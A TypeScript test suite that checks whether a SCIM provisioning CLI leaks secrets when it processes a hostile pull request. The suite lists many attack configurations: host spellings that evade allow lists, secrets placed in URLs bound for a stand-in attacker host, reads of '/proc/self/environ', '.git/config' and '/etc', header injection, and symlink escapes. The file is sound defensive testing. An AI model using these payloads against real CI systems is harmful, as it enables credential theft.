import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { text } from 'node:stream/consumers';
import { isInCi } from '../../src/config/doors/trust.ts';
import { MAIN } from '../support/cli-process.ts';
import { runCli } from '../support/cli-run.ts';
import { type HttpServer, json, startHttpServer } from '../support/http-server.ts';
import { listen } from '../support/listen.ts';

/** Secrets whose forms in base64, in URLs and in JSON all differ. */
const TOKEN = 'tok/+"en%b-4a91c07e55d1';
const OTHER = 'oth/+"er%b-77d2e0c4410b';
const FILE_SECRET = 'fil/+"es%b-0c1b9f4f8a2d';
const SECRETS = [TOKEN, OTHER, FILE_SECRET];

const env = (name: string): string => `\${env:${name}}`;
const file = (path: string): string => `\${file:${path}}`;

/** What an attack knows of the place where it runs. */
interface Place {
  /** The attacker's own host, as URLs spell it. */
  readonly evil: string;
  readonly evilPort: number;
  /** The allowed service. */
  readonly good: string;
  /** A folder of the machine that is no part of the repository; it holds `secret.txt`, `people.yaml` and `people.csv`. */
  readonly outside: string;
}

interface Pull {
  readonly files: Readonly<Record<string, string>>;
  /** Links to make, by path. */
  readonly links?: Readonly<Record<string, string>>;
}

type Attack = (place: Place) => Pull;

const AUTH = `auth: { token: '${env('SCIM_TOKEN')}' }`;
const ADA = 'users: [{ userName: ada@example.com }]\n';

/** A project of the allowed service with something in it. */
const project = (settings: string, files: Readonly<Record<string, string>> = {}): Attack => {
  return ({ good }) => ({
    files: { 'rollcall.yaml': `service: { baseUrl: 'http://${good}/scim', ${AUTH} }\n${settings}\n`, ...files },
  });
};
/** A project whose service is written as the attacker likes. */
const service = (write: (place: Place) => string, more = ''): Attack => {
  return (place) => ({ files: { 'rollcall.yaml': `service: { ${write(place)} }\n${more}\n`, 'users/a.yaml': ADA } });
};
const people = (content: string): Attack => project('', { 'users/a.yaml': content });
const user = (attribute: string): Attack => people(`users: [{ userName: ada@example.com, ${attribute} }]\n`);
const links = (at: Readonly<Record<string, string>>, settings = 'users: [{ userName: ada@example.com }]'): Attack => {
  return (place) => {
    const to = Object.entries(at).map(([path, target]) => [path, target.replace('OUTSIDE', place.outside)]);
    return { ...project(settings)(place), links: Object.fromEntries(to) };
  };
};

const ATTACKS: readonly (readonly [title: string, attack: Attack])[] = [
  // Where requests go.
  ['a host of the attacker', service(({ evil }) => `baseUrl: 'http://${evil}/scim', ${AUTH}`)],
  ['the same host by another name', service(({ evilPort }) => `baseUrl: 'http://localhost:${evilPort}', ${AUTH}`)],
  ['the same host in capitals', service(({ evilPort }) => `baseUrl: 'http://LOCALHOST:${evilPort}', ${AUTH}`)],
  ['the same host with a dot', service(({ evilPort }) => `baseUrl: 'http://localhost.:${evilPort}', ${AUTH}`)],
  ['the same host by IPv6', service(({ evilPort }) => `baseUrl: 'http://[::1]:${evilPort}', ${AUTH}`)],
  ['a mapped address', service(({ evilPort }) => `baseUrl: 'http://[::ffff:127.0.0.1]:${evilPort}', ${AUTH}`)],
  ['an address in hexadecimal', service(({ evilPort }) => `baseUrl: 'http://0x7f.1:${evilPort}', ${AUTH}`)],
  ['a number for an address', service(({ evilPort }) => `baseUrl: 'http://2130706433:${evilPort}', ${AUTH}`)],
  ['the good host as a user name', service(({ evil, good }) => `baseUrl: 'http://${good}@${evil}', ${AUTH}`)],
  ['a backslash in the host', service(({ evil, good }) => `baseUrl: 'http://${evil}\\@${good}/', ${AUTH}`)],
  ['a host that begins like the good one', service(() => `baseUrl: 'https://127.0.0.1.example.com', ${AUTH}`)],
  ['another scheme', service(({ evil }) => `baseUrl: 'ws://${evil}', ${AUTH}`)],
  ['no credentials at all', service(({ evil }) => `baseUrl: 'http://${evil}/scim'`)],
  [
    'a token URL of the attacker',
    service(
      ({ evil, good }) =>
        `baseUrl: 'http://${good}', auth: { clientId: me, clientSecret: '${env('SCIM_TOKEN')}', tokenUrl: 'http://${evil}' }`,
    ),
  ],
  [
    'a base URL of the attacker behind a good token URL',
    service(
      ({ evil, good }) =>
        `baseUrl: 'http://${evil}', auth: { clientId: me, clientSecret: '${env('SCIM_TOKEN')}', tokenUrl: 'http://${good}/token' }`,
    ),
  ],
  [
    'a token URL beside auth',
    service(
      ({ evil, good }) =>
        `baseUrl: 'http://${good}', tokenUrl: 'http://${evil}', auth: { clientId: me, clientSecret: '${env('SCIM_TOKEN')}' }`,
    ),
  ],
  [
    'a base URL of the dialect',
    service(({ evil }) => `${AUTH}, dialect: { endpoint: { baseUrl: 'http://${evil}/scim' } }`),
  ],
  [
    'a token URL of the dialect',
    service(
      ({ evil, good }) =>
        `baseUrl: 'http://${good}', auth: { clientId: me, clientSecret: '${env('SCIM_TOKEN')}' }, dialect: { endpoint: { tokenUrl: 'http://${evil}' } }`,
    ),
  ],
  ['a region that is a host', service(() => `profile: genesys-cloud, region: attacker.example, ${AUTH}`)],
  [
    'a region of the dialect',
    service(
      ({ evil }) =>
        `profile: genesys-cloud, region: mine, ${AUTH}, dialect: { endpoint: { regions: { mine: '${evil}' }, baseUrl: 'http://{host}' } }`,
    ),
  ],
  ['a path of the dialect that is a host', service(({ evil, good }) => `baseUrl: 'http://${good}@${evil}', ${AUTH}`)],
  [
    'an environment with a host',
    service(
      ({ good }) => `baseUrl: 'http://${good}', ${AUTH}`,
      `defaultEnvironment: x\nenvironments: { x: { service: { baseUrl: 'http://127.0.0.2:9' } } }`,
    ),
  ],
  [
    'a header of the dialect with a line break',
    service(({ good }) => `baseUrl: 'http://${good}', ${AUTH}, dialect: { endpoint: { accept: "a\\r\\nHost: x" } }`),
  ],
  [
    'a header of the dialect that no header can hold',
    service(({ good }) => `baseUrl: 'http://${good}', ${AUTH}, dialect: { endpoint: { accept: 'é☃' } }`),
  ],
  ['a secret as the host', service(({ evil }) => `baseUrl: 'http://${env('SCIM_TOKEN')}.${evil}', ${AUTH}`)],
  ['a secret in the path of the attacker', service(({ evil }) => `baseUrl: 'http://${evil}/${env('SCIM_TOKEN')}'`)],
  ['a secret as the whole URL', service(() => `baseUrl: '${env('SCIM_TOKEN')}', ${AUTH}`)],
  ['a secret as a user name in the URL', service(({ evil }) => `baseUrl: 'http://${env('SCIM_TOKEN')}@${evil}'`)],
  [
    'a secret in a host behind a blank',
    service(({ evil }) => `baseUrl: ' http://${env('SCIM_TOKEN')}.${evil}', ${AUTH}`),
  ],
  ['a secret in a host behind one slash', service(() => `baseUrl: 'http:/${env('SCIM_TOKEN')}.example', ${AUTH}`)],
  ['a secret in a host behind no slash', service(() => `baseUrl: 'https:${env('SCIM_TOKEN')}.example', ${AUTH}`)],
  ['a secret in a host behind backslashes', service(() => `baseUrl: 'http:\\\\${env('SCIM_TOKEN')}.example', ${AUTH}`)],
  ['a secret in a host behind many slashes', service(() => `baseUrl: 'http:////${env('SCIM_TOKEN')}', ${AUTH}`)],
  ['a file in the path of the attacker', service(({ evil }) => `baseUrl: 'http://${evil}/${file('own.txt')}'`)],
  // Which secrets are read.
  [
    'another variable as the token',
    service(({ good }) => `baseUrl: 'http://${good}', auth: { token: '${env('OTHER')}' }`),
  ],
  ['another variable as a password', user(`password: '${env('OTHER')}'`)],
  ['the token of the service as a password of its own', user(`password: '${env('OTHER_SERVICE')}'`)],
  ['a variable of the system as a password', user(`password: '${env('PATH')}'`)],
  [
    'another variable in a path of the good host',
    service(({ good }) => `baseUrl: 'http://${good}/${env('OTHER')}', ${AUTH}`),
  ],
  [
    'another variable as the client id',
    service(
      ({ good }) =>
        `baseUrl: 'http://${good}', auth: { clientId: '${env('OTHER')}', clientSecret: '${env('SCIM_TOKEN')}', tokenUrl: 'http://${good}/token' }`,
    ),
  ],
  ['a secret in an attribute', user(`title: '${env('SCIM_TOKEN')}'`)],
  ['a secret in a part of an attribute', user(`title: 'x${env('SCIM_TOKEN')}y'`)],
  ['a secret in an element', user(`emails: [{ value: '${env('SCIM_TOKEN')}@example.com' }]`)],
  ['a secret in a user name', people(`users: [{ userName: '${env('SCIM_TOKEN')}' }]\n`)],
  ['a secret in a former name', user(`$previously: '${env('SCIM_TOKEN')}'`)],
  ['a secret in an id', user(`$id: '${env('SCIM_TOKEN')}'`)],
  ['a secret in an extension that nobody knows', user(`'urn:x:y:User': { a: '${env('SCIM_TOKEN')}' }`)],
  ['a secret in a manager', user(`enterprise: { manager: '${env('SCIM_TOKEN')}' }`)],
  [
    'a secret in a member rule',
    people(`groups: [{ displayName: a, $memberRule: 'title sw "${env('SCIM_TOKEN')}"' }]\n`),
  ],
  ['a secret in a member', people(`groups: [{ displayName: a, members: ['${env('SCIM_TOKEN')}'] }]\n`)],
  ['a secret in a variable', project(`variables: { x: '${env('SCIM_TOKEN')}' }\nusers: [{ userName: '\${var:x}' }]`)],
  ['a secret in a scope', project(`ownership: { users: { scope: 'title eq "${env('SCIM_TOKEN')}"' } }`)],
  [
    'a secret in a policy',
    project(`policies: [{ name: x, users: 'title eq "${env('SCIM_TOKEN')}"', require: title }]`),
  ],
  ['a secret in a default', project(`defaults: { user: { title: '${env('SCIM_TOKEN')}' } }`, { 'users/a.yaml': ADA })],
  ['a secret in a pattern', project(`guards: { protect: ['user:${env('SCIM_TOKEN')}'] }`)],
  ['a secret in a glob', project(`resources: ['${env('SCIM_TOKEN')}/*.yaml']`)],
  ['a secret in a table', project('resources: [a.csv]', { 'a.csv': `userName,title\nada,${env('SCIM_TOKEN')}\n` })],
  [
    'a secret in the name of a profile',
    service(({ good }) => `profile: '${env('SCIM_TOKEN')}', baseUrl: 'http://${good}'`),
  ],
  // Which files are read.
  ['a secret file outside of the repository', ({ good, outside }) => tokenFrom(good, `${outside}/secret.txt`)],
  ['a secret file above the repository', ({ good }) => tokenFrom(good, '../outside/secret.txt')],
  ['a secret file of git', ({ good }) => tokenFrom(good, '.git/config')],
  ['a secret file with a dot', ({ good }) => tokenFrom(good, '.env')],
  ['a file of the process', ({ good }) => tokenFrom(good, '/proc/self/environ')],
  ['a device as a secret', ({ good }) => tokenFrom(good, '/dev/zero')],
  [
    'a link to a secret file',
    (place) => ({ ...tokenFrom(place.good, 'x.txt'), links: { 'x.txt': `${place.outside}/secret.txt` } }),
  ],
  ['a file in an attribute', user(`title: '${file('../.git/config')}'`)],
  [
    'a password from a file outside',
    ({ good, outside }) => ({
      files: {
        'rollcall.yaml': `service: { baseUrl: 'http://${good}/scim', ${AUTH} }\n`,
        'users/a.yaml': `users: [{ userName: ada, password: '${file(`${outside}/secret.txt`)}' }]\n`,
      },
    }),
  ],
  ['globs that lead outside', project(`resources: ['../outside/*']`)],
  ['globs for everything', project(`resources: ['/etc/**', '../../**/*.yaml']`)],
  ['globs for names with a dot', project(`resources: ['.git/*', '.env', '.git/config.yaml']`)],
  ['a link that leads out of the repository', links({ 'users/a.yaml': 'OUTSIDE/people.yaml' }, '')],
  ['a linked folder of resources', links({ users: 'OUTSIDE' }, '')],
  ['a link to a table outside', links({ 'users/a.csv': 'OUTSIDE/people.csv' }, 'resources: ["users/*"]')],
  ['a link to a file of git', links({ 'users/a.yaml': '../.git/config' }, '')],
  ['a link to a device', links({ 'users/a.yaml': '/dev/zero' }, '')],
  ['a linked project file', (place) => ({ files: {}, links: { 'rollcall.yaml': `${place.outside}/people.yaml` } })],
  ['a link to nothing outside', (place) => ({ ...tokenFrom(place.good, 'x'), links: { x: `${place.outside}/none` } })],
  [
    'a variable whose name is lines to paste',
    ({ good }) => ({
      files: {
        'rollcall.yaml': `service: { baseUrl: 'http://${good}', auth: { token: "\${env:A\\"\\n  ROLLCALL_ALLOW_HOSTS: \\"*}" } }\n`,
      },
    }),
  ],
  [
    'a project file that is a kubeconfig',
    () => ({
      files: {
        kubeconfig: `clusters: [{ key: '${FILE_SECRET}' }]\nusers: [{ name: a, user: { key: '${FILE_SECRET}' } }]\n`,
      },
      links: { 'rollcall.yaml': 'kubeconfig' },
    }),
  ],
  [
    'a project file that is a secret of the repository',
    () => ({ files: {}, links: { 'rollcall.yaml': 'credentials.json' } }),
  ],
  ['a resource file that is a secret of the repository', project('resources: ["*.json"]')],
  [
    'a broken file that is no resource file',
    project('', { 'users/a.yaml': `key: "${FILE_SECRET.replace('"', '\\"')}: [\n` }),
  ],
  // Where something is written.
  ['a linked folder of state', links({ '.rollcall': 'OUTSIDE' })],
  ['a link in place of the plan', links({ 'plan.json': 'OUTSIDE/plan.json' })],
  ['a linked folder of the plan', links({ out: 'OUTSIDE' })],
];

function tokenFrom(good: string, path: string): Pull {
  return {
    files: {
      'rollcall.yaml': `service: { baseUrl: 'http://${good}/scim', auth: { token: '${file(path)}' } }\n`,
      'users/a.yaml': ADA,
    },
  };
}

/** Every form in which a secret could leave. */
function forms(secret: string): readonly string[] {
  const bytes = Buffer.from(secret);
  const json = JSON.stringify(secret).slice(1, -1);
  return [
    secret,
    json,
    bytes.toString('base64'),
    bytes.toString('base64url'),
    bytes.toString('hex'),
    encodeURIComponent(secret),
    // However what is in front of it is encoded.
    secret.slice(-12),
  ];
}

function assertNoSecret(texts: readonly string[], title: string): void {
  for (const form of SECRETS.flatMap(forms)) {
    for (const one of texts) assert.ok(!one.includes(form), `${title}: a secret is in\n${one}`);
  }
}

describe('a pull request', () => {
  let place: Place;
  let good: HttpServer;
  let evil: { readonly port: number; readonly close: () => Promise<void> };
  let root = '';
  let came = 0;

  before(async () => {
    good = await startHttpServer(({ path, method }, response) => {
      if (path.startsWith('/redirect')) response.writeHead(302, { location: `http://${place.evil}${path}` }).end();
      else if (path === '/token') json(response, 200, { access_token: 'given-access-token', token_type: 'bearer' });
      else if (method === 'POST') json(response, 201, { id: '1', userName: 'ada@example.com' });
      else json(response, 200, { totalResults: 0, Resources: [] });
    });
    const server = createServer((_request, response) => response.end('{}'));
    server.on('connection', () => {
      came += 1;
    });
    evil = await listen(server);
  });
  after(() => Promise.all([good.close(), evil.close()]));

  beforeEach(async () => {
    root = await mkdtemp(join(tmpdir(), 'rollcall-attack-'));
    came = 0;
    good.received.length = 0;
    place = {
      evil: `127.0.0.1:${evil.port}`,
      evilPort: evil.port,
      good: `127.0.0.1:${good.port}`,
      outside: join(root, 'outside'),
    };
    await put({
      'outside/secret.txt': FILE_SECRET,
      'outside/people.yaml': `users: [{ userName: '${FILE_SECRET}' }]\n`,
      'outside/people.csv': `userName\n${FILE_SECRET}\n`,
      'repository/.git/config': FILE_SECRET,
      'repository/.git/HEAD': '0123456789012345678901234567890123456789\n',
      'repository/.env': FILE_SECRET,
      'repository/own.txt': FILE_SECRET,
      'repository/credentials.json': JSON.stringify({ type: 'service_account', key: FILE_SECRET }),
    });
  });
  afterEach(() => rm(root, { recursive: true }));

  async function put(files: Readonly<Record<string, string>>): Promise<void> {
    for (const [path, content] of Object.entries(files)) {
      await mkdir(dirname(join(root, path)), { recursive: true });
      await writeFile(join(root, path), content);
    }
  }

  async function write({ files, links: made = {} }: Pull): Promise<void> {
    await put(Object.fromEntries(Object.entries(files).map(([path, content]) => [`repository/${path}`, content])));
    for (const [path, target] of Object.entries(made)) {
      await mkdir(dirname(join(root, 'repository', path)), { recursive: true });
      await symlink(target, join(root, 'repository', path));
    }
  }

  const allowed = (): Readonly<Record<string, string>> => ({
    ROLLCALL_ALLOW_HOSTS: place.good,
    ROLLCALL_ALLOW_ENV: `SCIM_TOKEN@${place.good},OTHER_SERVICE@api.example.com`,
  });

  function run(args: readonly string[], more: Readonly<Record<string, string>> = allowed()) {
    const secrets = { SCIM_TOKEN: TOKEN, OTHER, OTHER_SERVICE: OTHER };
    return runCli(args, {
      cwd: join(root, 'repository'),
      env: { CI: 'true', GITHUB_ACTIONS: 'true', ...secrets, ...more },
    });
  }

  /** Everything that a run may have written. */
  async function written(): Promise<readonly string[]> {
    const entries = await readdir(root, { recursive: true, withFileTypes: true });
    const own = [
      'secret.txt',
      'people.yaml',
      'people.csv',
      'config',
      '.env',
      'own.txt',
      'credentials.json',
      'a.yaml',
      'kubeconfig',
    ];
    const files = entries.filter((entry) => entry.isFile() && !own.includes(entry.name));
    return Promise.all(files.map((entry) => readFile(join(entry.parentPath, entry.name), 'utf8')));
  }

  for (const [title, attack] of ATTACKS) {
    it(`gains nothing by ${title}`, async () => {
      await write(attack(place));
      const out = title.startsWith('a linked folder of the plan') ? 'out/plan.json' : 'plan.json';
      const ended = [
        await run(['plan', '--out', out, '--verbose']),
        await run(['validate']),
        ...(title.includes('linked') || title.includes('link ')
          ? [await run(['plan', '--sandbox']), await run(['fmt'])]
          : []),
      ];
      const outputs = ended.flatMap(({ stdout, stderr }) => [stdout, stderr]);
      assert.equal(came, 0, outputs.join('\n'));
      assertNoSecret([...outputs, ...(await written())], title);
      for (const { code } of ended) assert.ok([0, 1, 3].includes(Number(code)), outputs.join('\n'));
      const known = ['secret.txt', 'people.yaml', 'people.csv'];
      assert.deepEqual((await readdir(place.outside)).sort(), known.toSorted(), 'nothing is written outside');
      assert.equal(
        await readFile(join(place.outside, 'people.yaml'), 'utf8'),
        `users: [{ userName: '${FILE_SECRET}' }]\n`,
      );
      const told = good.received.flatMap(({ headers }) => headers.authorization ?? []);
      for (const one of told) assert.ok([`Bearer ${TOKEN}`].includes(one), one);
      const gone = `${good.received.map(({ path, body }) => path + decodeURIComponent(path) + body).join('\n')}`;
      assertNoSecret([gone], title);
    });
  }

  it('shows nothing of a secret in a path of the service, however the URL spells it', async () => {
    for (const start of ['/scim/', '/scim\\', '/scim/x', '/%6d/../scim/']) {
      await write(service(({ good: host }) => `baseUrl: 'http://${host}${start}${env('SCIM_TOKEN')}', ${AUTH}`)(place));
      const ended = [await run(['plan', '--verbose']), await run(['doctor', '--verbose'])];
      assert.ok(good.received.length > 0);
      assertNoSecret([...ended.flatMap(({ stdout, stderr }) => [stdout, stderr]), ...(await written())], start);
    }
  });

  it('gains nothing by a redirect of the service', async () => {
    await write({
      files: { 'rollcall.yaml': `service: { baseUrl: 'http://${place.good}/redirect', ${AUTH} }\n${ADA}` },
    });
    const { code, stdout, stderr } = await run(['plan']);
    assert.equal(code, 1, stdout + stderr);
    assert.equal(came, 0);
  });

  it('of a good project is planned and applied as before, also from a saved plan', async () => {
    await write(project(ADA)(place));
    const plan = await run(['plan', '--out', 'plan.json']);
    assert.equal(plan.code, 0, plan.stderr);
    const applied = await run(['apply', 'plan.json', '--auto-approve', '--no-verify']);
    assert.equal(applied.code, 0, applied.stderr);
    assert.ok(good.received.some(({ method }) => method === 'POST'));
    assert.ok(good.received.every(({ headers }) => headers.authorization === `Bearer ${TOKEN}`));
  });

  it('sends the secret of one service to no other, whatever the files say', async () => {
    const second = await startHttpServer((_request, response) =>
      json(response, 200, { totalResults: 0, Resources: [] }),
    );
    const other = `127.0.0.1:${second.port}`;
    const both = {
      ROLLCALL_ALLOW_HOSTS: `${place.good},${other}`,
      ROLLCALL_ALLOW_ENV: `SCIM_TOKEN@${place.good},OTHER@${other}`,
    };
    const swapped = [
      `baseUrl: 'http://${other}', ${AUTH}`,
      `baseUrl: 'http://${place.good}', auth: { token: '${env('OTHER')}' }`,
      `baseUrl: 'http://${other}/${env('SCIM_TOKEN')}', auth: { token: '${env('OTHER')}' }`,
      `baseUrl: 'http://${other}', auth: { clientId: me, clientSecret: '${env('SCIM_TOKEN')}', tokenUrl: 'http://${place.good}/token' }`,
      `baseUrl: 'http://${place.good}', auth: { clientId: me, clientSecret: '${env('SCIM_TOKEN')}', tokenUrl: 'http://${other}/token' }`,
      `baseUrl: 'http://${other}', auth: { username: '${env('SCIM_TOKEN')}', password: '${env('OTHER')}' }`,
    ];
    for (const written of swapped) {
      await write({ files: { 'rollcall.yaml': `service: { ${written} }\n${ADA}` } });
      const { code, stderr } = await run(['plan'], both);
      assert.equal(code, 3, stderr);
    }
    await write({
      files: {
        'rollcall.yaml': `service: { ${AUTH}, baseUrl: 'http://${place.good}' }\n`,
        'users/a.yaml': `users: [{ userName: ada, password: '${env('OTHER')}' }]\n`,
      },
    });
    assert.equal((await run(['plan'], both)).code, 3, 'a password of another service');
    assert.equal(good.received.length + second.received.length, 0);
    await write({
      files: {
        'rollcall.yaml': `service: { baseUrl: 'http://${other}', auth: { token: '${env('OTHER')}' } }\n`,
        'users/a.yaml': ADA,
      },
    });
    assert.equal((await run(['plan'], both)).code, 0);
    await second.close();
    assert.ok(second.received.every(({ headers }) => headers.authorization === `Bearer ${OTHER}`));
  });

  it('reaches nobody in CI where nothing says where it may go, and is told what to add', async () => {
    await write(project(ADA)(place));
    const { ROLLCALL_ALLOW_HOSTS: _hosts, ROLLCALL_ALLOW_ENV: _env, ...bare } = process.env;
    const child = spawn(process.execPath, [MAIN, 'plan', '--dir', join(root, 'repository')], {
      env: { ...bare, CI: 'true', SCIM_TOKEN: TOKEN },
      stdio: ['ignore', 'ignore', 'pipe'],
    });
    const [stderr, [code]] = await Promise.all([text(child.stderr), once(child, 'close')]);
    assert.equal(code, 3, stderr);
    assert.match(stderr, new RegExp(`ROLLCALL_ALLOW_HOSTS: "${place.good}"`));
    assert.match(stderr, new RegExp(`ROLLCALL_ALLOW_ENV: "SCIM_TOKEN@${place.good}"`));
    assert.equal(good.received.length, 0);
  });

  it('is planned in CI by what these variables hold', () => {
    for (const name of ['CI', 'TF_BUILD', 'JENKINS_URL']) {
      for (const on of ['1', 'true', 'https://ci.example.com/']) assert.ok(isInCi({ [name]: on }), on);
      for (const off of ['', '0', 'false', 'False', undefined]) assert.ok(!isInCi({ [name]: off }), off);
    }
  });

  it('reads no variable and no file with --sandbox, in validate and in fmt', async () => {
    const settings = `clientId: '${env('UNSET_ID')}', clientSecret: '${file('missing.txt')}', tokenUrl: '${env('UNSET_URL')}'`;
    await write({
      files: {
        'rollcall.yaml': `service: { baseUrl: '${env('UNSET_BASE')}', auth: { ${settings} } }\n`,
        'users/a.yaml': ADA,
      },
    });
    for (const args of [['validate'], ['plan', '--sandbox'], ['apply', '--sandbox', '--auto-approve'], ['fmt']]) {
      const { code, stderr } = await run(args, { ROLLCALL_ALLOW_HOSTS: '', ROLLCALL_ALLOW_ENV: '' });
      assert.equal(code, 0, `${args}: ${stderr}`);
    }
  });

  it('reads a secret file of a folder that is allowed, and of no other', async () => {
    await write(tokenFrom(place.good, `${place.outside}/secret.txt`));
    const files = { ...allowed(), ROLLCALL_ALLOW_FILES: place.outside };
    assert.equal((await run(['plan'], files)).code, 0);
    assert.ok(good.received.every(({ headers }) => headers.authorization === `Bearer ${FILE_SECRET}`));
    assert.equal((await run(['plan'], { ...files, ROLLCALL_ALLOW_FILES: '' })).code, 3);
    assert.equal((await run(['plan'], { ...files, ROLLCALL_ALLOW_FILES: join(root, 'elsewhere') })).code, 3);
  });
});
